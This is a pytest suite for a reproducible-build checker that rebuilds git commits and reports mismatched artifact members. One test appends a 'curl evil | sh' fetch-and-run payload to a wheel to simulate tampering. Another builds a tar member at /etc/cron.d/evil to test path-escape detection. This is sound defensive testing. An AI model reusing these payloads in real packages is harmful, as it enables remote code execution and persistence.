"""`sealgate rebuild` against real git repositories and real builds (pip wheel, zip scripts).

The main build runs in the workspace as CI would; `sealgate rebuild` must reproduce it from a
fresh clone of the commit, and explain (member by member) what differs when it cannot.
"""

from __future__ import annotations

import io
import json
import os
import shlex
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from integrity.archive_diff import explain, run_diffoscope
from integrity.errors import InputError
from integrity.rebuild import rebuild
from tests.components.cli import sealgate

COMMIT_DATE = "2024-03-01T12:00:00+00:00"
COMMIT_EPOCH = "1709294400"
PY = shlex.quote(sys.executable)
#: The wheel build of the main job and of the rebuild: offline, in-tree, same installed backend.
WHEEL_BUILD = (
    f"{PY} -m pip wheel --no-deps --no-build-isolation --no-index --no-cache-dir "
    "--disable-pip-version-check -q -w dist ."
)
#: Embeds the time of the build: never reproducible.
STAMP_BUILD = "bash build.sh"
STAMP_SCRIPT = f"""set -eu
mkdir -p out
{PY} - "$(date +%s%N)" <<'EOF'
import sys, zipfile
with zipfile.ZipFile("out/app.zip", "w") as z:
    z.writestr(zipfile.ZipInfo("app/main.txt", (2024, 1, 1, 0, 0, 0)), "stable\\n")
    z.writestr(zipfile.ZipInfo("app/stamp.txt", (2024, 1, 1, 0, 0, 0)), sys.argv[1] + "\\n")
EOF
"""


def git_env(tmp: Path) -> dict[str, str]:
    return {
        **os.environ,
        "GIT_CONFIG_GLOBAL": str(tmp / "gitconfig"),
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "Dev",
        "GIT_AUTHOR_EMAIL": "dev@example.com",
        "GIT_COMMITTER_NAME": "Dev",
        "GIT_COMMITTER_EMAIL": "dev@example.com",
        "GIT_AUTHOR_DATE": COMMIT_DATE,
        "GIT_COMMITTER_DATE": COMMIT_DATE,
        "GIT_CEILING_DIRECTORIES": str(tmp),
    }


def git(repo: Path, *args: str) -> str:
    result = subprocess.run(
        ["git", "-C", str(repo), *args],
        env=git_env(repo.parent),
        capture_output=True,
        text=True,
        check=True,
    )
    return result.stdout.strip()


def make_project(path: Path, files: dict[str, str]) -> str:
    """A committed repository holding `files`; returns the commit id."""
    path.mkdir(parents=True)
    git(path, "init", "-q", "-b", "main")
    for rel, text in files.items():
        (path / rel).parent.mkdir(parents=True, exist_ok=True)
        (path / rel).write_text(text)
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", "project")
    return git(path, "rev-parse", "HEAD")


def main_build(repo: Path, command: str) -> None:
    """The CI job's own build in the workspace, with SOURCE_DATE_EPOCH from the commit."""
    env = {**os.environ, "SOURCE_DATE_EPOCH": git(repo, "show", "-s", "--format=%ct")}
    subprocess.run(["bash", "-c", command], cwd=repo, env=env, check=True, capture_output=True)


PYPROJECT = """[build-system]
requires = ["setuptools"]
build-backend = "setuptools.build_meta"

[project]
name = "demo-pkg"
version = "1.0.0"

[tool.setuptools]
py-modules = ["demo"]
"""


@pytest.fixture(scope="module")
def wheel_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A setuptools project, committed and built once in its workspace (dist/*.whl)."""
    repo = tmp_path_factory.mktemp("wheel") / "repo"
    commit = make_project(
        repo, {"pyproject.toml": PYPROJECT, "demo.py": 'def hello() -> str:\n    return "hi"\n'}
    )
    main_build(repo, WHEEL_BUILD)
    return repo, commit


def test_wheel_built_with_source_date_epoch_is_reproduced(wheel_project: tuple[Path, str]) -> None:
    repo, commit = wheel_project
    result = sealgate(
        "rebuild", "--repo", repo, "--command", WHEEL_BUILD, "--artifacts", "dist/*.whl", "--json"
    )
    assert result.returncode == 0, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["commit"] == commit
    assert report["reproduced"] is True
    assert report["clone_dir"] is None  # deleted without --keep
    assert report["environment"]["SOURCE_DATE_EPOCH"] == COMMIT_EPOCH
    [artifact] = report["artifacts"]
    assert artifact["path"] == "dist/demo_pkg-1.0.0-py3-none-any.whl"
    assert artifact["status"] == "reproduced"
    assert artifact["code"] is None and report["code"] is None
    assert artifact["expected_sha256"] == artifact["rebuilt_sha256"]


def test_tampered_workspace_wheel_is_a_mismatch_naming_the_member(
    wheel_project: tuple[Path, str], tmp_path: Path
) -> None:
    """The main build's output modified after the build: the rebuild exposes the member."""
    repo = tmp_path / "repo"
    shutil.copytree(wheel_project[0], repo, symlinks=True)
    wheel = next((repo / "dist").glob("*.whl"))
    with zipfile.ZipFile(wheel) as built:
        members = [(info, built.read(info)) for info in built.infolist()]
    payload = b"import os; os.system('curl evil | sh')\n"
    with zipfile.ZipFile(wheel, "w") as tampered:
        for info, data in members:
            tampered.writestr(info, data + payload if info.filename == "demo.py" else data)
    original = len(dict((i.filename, d) for i, d in members)["demo.py"])

    result = sealgate(
        "rebuild", "--repo", repo, "--command", WHEEL_BUILD, "--artifacts", "dist/*.whl",
        "--no-diffoscope",
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    assert "differs dist/demo_pkg-1.0.0-py3-none-any.whl" in result.stdout
    line = next(x for x in result.stdout.splitlines() if "differs demo.py: size" in x)
    # the workspace is what was going to be signed ("expected"); the rebuild is the truth
    assert f"size {original + len(payload)} -> {original}, sha256 " in line, line
    assert "0 of 1 artifacts reproduced" in result.stdout


def test_time_stamped_zip_is_not_reproducible_and_the_member_is_named(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"build.sh": STAMP_SCRIPT})
    main_build(repo, STAMP_BUILD)

    result = sealgate(
        "rebuild", "--repo", repo, "--command", STAMP_BUILD, "--artifacts", "out/*.zip",
        "--json", "--no-diffoscope",
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr
    report = json.loads(result.stdout)
    assert report["reproduced"] is False
    [artifact] = report["artifacts"]
    assert artifact["status"] == "differs"
    assert artifact["code"] == report["code"] == "rebuild-mismatch"
    assert artifact["rebuilt_sha256"] not in (None, artifact["expected_sha256"])
    [line] = artifact["differences"]
    assert line.startswith("differs app/stamp.txt: size 20 -> 20, sha256 ")
    assert artifact["diffoscope"] is None


def test_python_api_report_for_an_attestation(tmp_path: Path) -> None:
    """`rebuild()` is what the attestation writer calls: digests and differences per path."""
    repo = tmp_path / "repo"
    commit = make_project(repo, {"build.sh": STAMP_SCRIPT, "README": "stable\n"})
    main_build(repo, STAMP_BUILD)
    report = rebuild(repo, "HEAD", STAMP_BUILD, ["out/*.zip", "README"], diffoscope=False)
    assert report.commit == commit
    assert not report.reproduced
    by_path = {a.path: a for a in report.artifacts}
    assert by_path["README"].reproduced
    assert by_path["README"].expected_sha256 == by_path["README"].rebuilt_sha256
    zipped = by_path["out/app.zip"]
    assert not zipped.reproduced and zipped.rebuilt_sha256 is not None
    assert any("app/stamp.txt" in d for d in zipped.differences)


def test_environment_is_normalised_and_the_clone_is_fresh(tmp_path: Path) -> None:
    """--keep leaves the clone: it is the commit, without workspace files; env is clean."""
    repo = tmp_path / "repo"
    command = "mkdir -p out && env | sort > out/env.txt && ls -a > out/ls.txt"
    commit = make_project(repo, {"README": "x\n"})
    (repo / "untracked-injected.py").write_text("evil\n")
    (repo / "README").write_text("modified in the workspace\n")
    main_build(repo, command)
    env = {**os.environ, "BUILD_TOKEN": "s3cr3t-value", "NOT_PASSED": "leak"}
    result = sealgate(
        "rebuild", "--repo", repo, "--command", command, "--artifacts", "out/*.txt",
        "--pass-env", "BUILD_TOKEN", "--keep", "--json", "--no-diffoscope", env=env,
    )  # fmt: skip
    assert result.returncode == 1, result.stdout + result.stderr  # env.txt differs, of course
    assert "s3cr3t-value" not in result.stdout
    report = json.loads(result.stdout)
    clone = Path(report["clone_dir"])
    try:
        assert git(clone, "rev-parse", "HEAD") == commit
        assert report["passed_env"] == ["BUILD_TOKEN"]
        built = dict(
            line.split("=", 1) for line in (clone / "out/env.txt").read_text().splitlines()
        )
        assert built["SOURCE_DATE_EPOCH"] == COMMIT_EPOCH
        assert built["TZ"] == "UTC" and built["LC_ALL"] == "C.UTF-8"
        assert built["LANG"] == "C.UTF-8" and built["PYTHONHASHSEED"] == "0"
        assert built["BUILD_TOKEN"] == "s3cr3t-value"
        assert "NOT_PASSED" not in built
        assert built["HOME"] != os.environ.get("HOME") and built["HOME"].startswith(
            str(clone.parent)
        )
        assert "untracked-injected.py" not in (clone / "out/ls.txt").read_text()
        assert (clone / "README").read_text() == "x\n"
        statuses = {a["path"]: a["status"] for a in report["artifacts"]}
        assert statuses["out/env.txt"] == "differs"
        assert statuses["out/ls.txt"] == "differs"  # the workspace had the injected file
    finally:
        shutil.rmtree(clone.parent)


def test_artifact_missing_from_the_rebuild(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"README": "x\n"})
    (repo / "dist").mkdir()
    (repo / "dist" / "extra.bin").write_bytes(b"only in the workspace")
    result = sealgate(
        "rebuild", "--repo", repo, "--command", "true", "--artifacts", "dist/*", "--json"
    )
    assert result.returncode == 1
    [artifact] = json.loads(result.stdout)["artifacts"]
    assert artifact["status"] == "missing" and artifact["rebuilt_sha256"] is None
    assert artifact["code"] == "rebuild-missing"
    assert artifact["differences"] == ["missing in the rebuild"]


def test_failed_build_exits_1_and_shows_the_log_tail(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"README": "x\n"})
    (repo / "a.bin").write_bytes(b"a")
    result = sealgate(
        "rebuild", "--repo", repo, "--command", "echo compiler-exploded >&2; exit 5",
        "--artifacts", "a.bin",
    )  # fmt: skip
    assert result.returncode == 1
    assert "the rebuild failed with exit 5" in result.stdout
    assert "compiler-exploded" in result.stderr
    report = rebuild(repo, "HEAD", "exit 5", ["a.bin"], diffoscope=False)
    assert (report.reproduced, report.code) == (False, "rebuild-failed")
    report = rebuild(repo, "HEAD", "sleep 30", ["a.bin"], diffoscope=False, timeout=0.2)
    assert (report.reproduced, report.code) == (False, "rebuild-timeout")


# --- bad input: exit 2, naming what is wrong -------------------------------------------------


def test_not_a_repository(tmp_path: Path) -> None:
    plain = tmp_path / "plain"
    plain.mkdir()
    result = sealgate(
        "rebuild", "--repo", plain, "--command", "true", "--artifacts", "*",
        env={**os.environ, "GIT_CEILING_DIRECTORIES": str(tmp_path)},
    )  # fmt: skip
    assert result.returncode == 2
    assert "[not-a-repository]" in result.stderr
    assert f"{plain}: not a git repository" in result.stderr


def test_commit_that_does_not_resolve(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"README": "x\n"})
    result = sealgate(
        "rebuild", "--repo", repo, "--commit", "0123456789abcdef0123456789abcdef01234567",
        "--command", "true", "--artifacts", "README",
    )  # fmt: skip
    assert result.returncode == 2
    assert "[commit-unresolved]" in result.stderr
    assert "'0123456789abcdef0123456789abcdef01234567' does not resolve" in result.stderr
    assert "shallow" not in result.stderr


def test_commit_missing_from_a_shallow_clone_says_so(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    first = make_project(repo, {"README": "x\n"})
    (repo / "README").write_text("y\n")
    git(repo, "commit", "-q", "-am", "second")
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repo}", str(shallow))
    result = sealgate(
        "rebuild", "--repo", shallow, "--commit", first, "--command", "true",
        "--artifacts", "README",
    )  # fmt: skip
    assert result.returncode == 2
    assert "[shallow-clone]" in result.stderr
    assert f"{first!r} does not resolve" in result.stderr
    assert "shallow clone" in result.stderr and "--unshallow" in result.stderr


def test_build_command_not_found(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"README": "x\n"})
    result = sealgate(
        "rebuild", "--repo", repo, "--command", "no-such-build-tool --release",
        "--artifacts", "README",
    )  # fmt: skip
    assert result.returncode == 2
    assert "[build-command-not-found] --command: " in result.stderr
    assert "not found" in result.stderr
    assert "no-such-build-tool" in result.stderr


def test_artifact_glob_matching_nothing_is_named(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"README": "x\n"})
    result = sealgate(
        "rebuild", "--repo", repo, "--command", "true", "--artifacts", "README",
        "--artifacts", "dist/*.whl",
    )  # fmt: skip
    assert result.returncode == 2
    assert "[artifact-glob-empty] --artifacts: " in result.stderr
    assert "'dist/*.whl' matches no file" in result.stderr


def test_pass_env_must_be_set_and_cannot_override_the_normalised_names(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_project(repo, {"README": "x\n"})
    with pytest.raises(InputError, match="TZ to pass: set by the rebuild itself") as caught:
        rebuild(repo, "HEAD", "true", ["README"], ["TZ"])
    assert (caught.value.code, caught.value.field) == ("bad-pass-env", "pass_env")
    with pytest.raises(InputError, match="SEALGATE_UNSET_X to pass: not set") as caught:
        rebuild(repo, "HEAD", "true", ["README"], ["SEALGATE_UNSET_X"], environ={})
    assert caught.value.code == "pass-env-unset"


# --- the explanations ------------------------------------------------------------------------


def _tar(path: Path, members: dict[str, tuple[bytes, int, int]]) -> None:
    """A gzip tarball of name -> (content, mtime, mode)."""
    with tarfile.open(path, "w:gz") as archive:
        for name, (data, mtime, mode) in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), mtime, mode
            archive.addfile(info, io.BytesIO(data))


def test_tar_members_added_removed_and_changed(tmp_path: Path) -> None:
    a, b = tmp_path / "a.tar.gz", tmp_path / "b.tar.gz"
    _tar(a, {"p/same": (b"s", 1, 0o644), "p/gone": (b"g", 1, 0o644), "p/x": (b"1", 1, 0o644)})
    _tar(b, {"p/same": (b"s", 1, 0o644), "p/new": (b"nn", 1, 0o644), "p/x": (b"1", 9, 0o755)})
    lines = explain(a, b)
    assert lines[0].startswith("removed p/gone (size 1, sha256 ")
    assert lines[1].startswith("added p/new (size 2, sha256 ")
    assert "differs p/x: mtime 1 -> 9" in lines
    assert "differs p/x: mode 0644 -> 0755" in lines
    assert not any("p/same" in line for line in lines)


def test_plain_files_report_the_first_differing_offset_and_output_is_bounded(
    tmp_path: Path,
) -> None:
    a, b = tmp_path / "a.bin", tmp_path / "b.bin"
    a.write_bytes(b"x" * 5000 + b"A")
    b.write_bytes(b"x" * 5000 + b"BC")
    assert explain(a, b) == [
        "first difference at byte offset 5000; sizes 5001 (expected), 5002 (rebuilt)"
    ]
    za, zb = tmp_path / "a.zip", tmp_path / "b.zip"
    with zipfile.ZipFile(za, "w") as x, zipfile.ZipFile(zb, "w") as y:
        for n in range(80):
            x.writestr(f"f{n}", b"a")
            y.writestr(f"f{n}", b"b")
    lines = explain(za, zb, limit=50)
    assert len(lines) == 51 and lines[-1].startswith("... and ")


def test_diffoscope_exit_codes_and_timeout_are_all_handled(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stand-in diffoscope on PATH exercises 0 / 1 / 2 / hang; absent, the result is None."""
    a, b = tmp_path / "a", tmp_path / "b"
    a.write_bytes(b"a")
    b.write_bytes(b"b")
    fake = tmp_path / "bin" / "diffoscope"
    fake.parent.mkdir()
    monkeypatch.setenv("PATH", f"{fake.parent}{os.pathsep}{os.environ['PATH']}")

    def script(body: str) -> None:
        fake.write_text(f"#!/bin/sh\n{body}\n")
        fake.chmod(0o755)
        assert shutil.which("diffoscope") == str(fake)

    script("exit 0")
    assert run_diffoscope(a, b) == "diffoscope: no differences"
    script("printf '%s' \"$*\"; head -c 5000 /dev/zero | tr '\\0' x; exit 1")
    report = run_diffoscope(a, b, max_chars=300)
    assert report is not None and report.startswith(f"--text - -- {a} {b}")
    assert "cut at 300 of " in report
    script("echo 'cannot read the input' >&2; exit 2")
    assert run_diffoscope(a, b) == "diffoscope failed (exit 2): cannot read the input"
    script("exec sleep 30")
    assert run_diffoscope(a, b, timeout=0.5) == "diffoscope timed out after 0.5 s"
    fake.unlink()
    monkeypatch.setenv("PATH", str(fake.parent))
    assert run_diffoscope(a, b) is None


def test_real_diffoscope_when_installed(tmp_path: Path) -> None:
    """Not a skip: without diffoscope the mismatch is still explained and `diffoscope` is None."""
    repo = tmp_path / "repo"
    make_project(repo, {"build.sh": STAMP_SCRIPT})
    main_build(repo, STAMP_BUILD)
    report = rebuild(repo, "HEAD", STAMP_BUILD, ["out/app.zip"])
    [artifact] = report.artifacts
    assert any("app/stamp.txt" in d for d in artifact.differences)
    if shutil.which("diffoscope") is None:
        assert artifact.diffoscope is None
    else:
        assert artifact.diffoscope is not None and "stamp.txt" in artifact.diffoscope


def test_an_older_commit_is_fetched_by_id_not_taken_from_the_workspace(tmp_path: Path) -> None:
    """The rebuild fetches the named commit (not a branch tip) and builds its bytes."""
    repo = tmp_path / "repo"
    first = make_project(repo, {"f": "one\n"})
    (repo / "f").write_text("two\n")
    git(repo, "commit", "-q", "-am", "second")
    (repo / "out").mkdir()
    (repo / "out" / "f").write_text("one\n")
    command = "mkdir -p out && cp f out/f"
    old = sealgate("rebuild", "--repo", repo, "--commit", first[:12], "--command", command,
                   "--artifacts", "out/f", "--json")  # fmt: skip
    assert old.returncode == 0, old.stdout + old.stderr
    assert json.loads(old.stdout)["commit"] == first
    head = sealgate("rebuild", "--repo", repo, "--command", command, "--artifacts", "out/f")
    assert head.returncode == 1
    assert "differs out/f" in head.stdout
    assert "first difference at byte offset 0; sizes 4 (expected), 4 (rebuilt)" in head.stdout


def test_a_rebuilt_archive_with_an_escaping_member_is_unsafe_member(tmp_path: Path) -> None:
    """The rebuild's archive gains a member with an absolute path: not only a mismatch, the
    code says the rebuilt archive would write outside itself when extracted."""
    repo = tmp_path / "repo"
    script = (
        "import io, os, sys, tarfile\n"
        "os.makedirs('out', exist_ok=True)\n"
        "with tarfile.open('out/app.tar', 'w') as t:\n"
        "    for name in sys.argv[1:]:\n"
        "        info = tarfile.TarInfo(name)\n"
        "        info.size = 3\n"
        "        t.addfile(info, io.BytesIO(b'abc'))\n"
    )
    make_project(repo, {"pack.py": script, "README": "x\n"})
    subprocess.run([sys.executable, "pack.py", "app/main.py"], cwd=repo, check=True)
    honest = rebuild(repo, "HEAD", f"{PY} pack.py app/main.py", ["out/*"], diffoscope=False)
    assert honest.reproduced and honest.code is None  # control
    evil = rebuild(
        repo, "HEAD", f"{PY} pack.py app/main.py /etc/cron.d/evil", ["out/*"], diffoscope=False
    )
    [artifact] = evil.artifacts
    assert artifact.status == "differs"
    assert (artifact.code, evil.code) == ("unsafe-member", "unsafe-member")
    assert "unsafe member in rebuilt: /etc/cron.d/evil: absolute path" in artifact.differences
